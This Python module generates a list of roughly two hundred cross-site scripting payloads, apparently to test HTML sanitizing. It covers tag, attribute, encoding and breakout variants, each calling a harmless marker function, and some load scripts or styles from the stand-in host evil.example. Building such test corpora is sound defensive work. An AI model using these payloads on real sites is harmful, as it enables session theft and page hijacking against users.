"""Words that try to become a program: about two hundred, each with the mark that gives it away."""

MARK = "xq7zmark"
RUN = f"{MARK}()"

_TAGS = """
<script>{}</script>
<SCRIPT>{}</SCRIPT>
<scr<script>ipt>{}</scr</script>ipt>
<script src=//evil.example/{}></script>
<script/x>{}</script>
<script
>{}</script>
<img src=x onerror={}>
<img src=x onerror="{}">
<IMG SRC=x ONERROR={}>
<img/src=x/onerror={}>
<img src=`x`onerror={}>
<img src="x` `<script>{}</script>"` `>
<svg onload={}>
<svg/onload={}>
<svg><script>{}</script></svg>
<svg><animate onbegin={} attributeName=x dur=1s>
<svg><set onbegin={} attributeName=x>
<svg><a xlink:href="javascript:{}"><text>x</text></a></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror={}>
<math href="javascript:{}">x</math>
<body onload={}>
<body onpageshow={}>
<iframe src="javascript:{}"></iframe>
<iframe srcdoc="<script>{}</script>"></iframe>
<object data="javascript:{}"></object>
<embed src="javascript:{}">
<base href="//evil.example/{}">
<link rel=stylesheet href=//evil.example/{}>
<meta http-equiv=refresh content="0;url=javascript:{}">
<style>@import '//evil.example/{}';</style>
<style onload={}></style>
<details open ontoggle={}>
<video src=x onerror={}></video>
<audio src=x onerror={}></audio>
<video><source onerror={}></video>
<input autofocus onfocus={}>
<input type=image src=x onerror={}>
<select autofocus onfocus={}>
<textarea autofocus onfocus={}></textarea>
<button autofocus onfocus={}>x</button>
<form action="javascript:{}"><button>x</button></form>
<button formaction="javascript:{}">x</button>
<isindex action="javascript:{}" type=submit>
<a href="javascript:{}">x</a>
<a href="JaVaScRiPt:{}">x</a>
<a href=" javascript:{}">x</a>
<a href="java&#9;script:{}">x</a>
<a href="&#106;avascript:{}">x</a>
<a href="data:text/html,<script>{}</script>">x</a>
<a href="vbscript:{}">x</a>
<marquee onstart={}>x</marquee>
<keygen autofocus onfocus={}>
<div onmouseover={} style="position:fixed;inset:0">x</div>
<p style="background:url(//evil.example/{})">x</p>
<template><script>{}</script></template>
<noscript><p title="</noscript><img src=x onerror={}>">
<xmp><p title="</xmp><svg/onload={}>">
<title><img src=x onerror={}></title>
<plaintext>{}
<frameset onload={}>
<table background="javascript:{}">
<dialog open onclose={}></dialog>
<portal src="//evil.example/{}">
<div hx-get="//evil.example/{}" hx-trigger="load">
<div hx-on:load="{}" hx-trigger=load>
<div data-hx-get="/uitloggen/?{}" data-hx-trigger=load>
""".strip().split("\n<")
TAGS = [f"<{one}" if not one.startswith("<") else one for one in _TAGS]

# How one gets out of where the words were put: an attribute, a text, a comment, a script, a style.
OUT_OF = ['">', "'>", "</textarea>", "</title>", "-->", "</script>", "]]>", "&quot;>", "%22%3E"]
ATTRIBUTES = [
    '" onmouseover="{}', "' onfocus='{}' autofocus='", "` onclick=`{}", '" style="x:expression({})',
    '" autofocus onfocus="{}" x="', "\" hx-on:click='{}' \"", '"/onload="{}',
]  # fmt: skip
OTHER = [
    "javascript:{}", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "{{% debug %}}{}",
    "\u2028{}\u2029", "\x3cscript\x3e{}\x3c/script\x3e", "＜script＞{}＜/script＞",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "';{}//", '";{}//', "</script><script>{}</script>",
    "<<script>{}//<</script>", "<!--<img src=\"--><img src=x onerror={}//\">", "[x](javascript:{})",
    "![x](x\"onerror=\"{})", "<?xml version=\"1.0\"?><script>{}</script>",
]  # fmt: skip

PAYLOADS = [one.format(RUN) for one in [*TAGS, *ATTRIBUTES, *OTHER]]
# The strongest tags once more, from inside wherever they may stand.
PAYLOADS += [
    out + tag.format(RUN)
    for out in OUT_OF
    for tag in (*TAGS[:1], *TAGS[6:9], *TAGS[12:14], TAGS[31])
]
PAYLOADS += [f"Hallo {one} groet" for one in PAYLOADS[:50]]
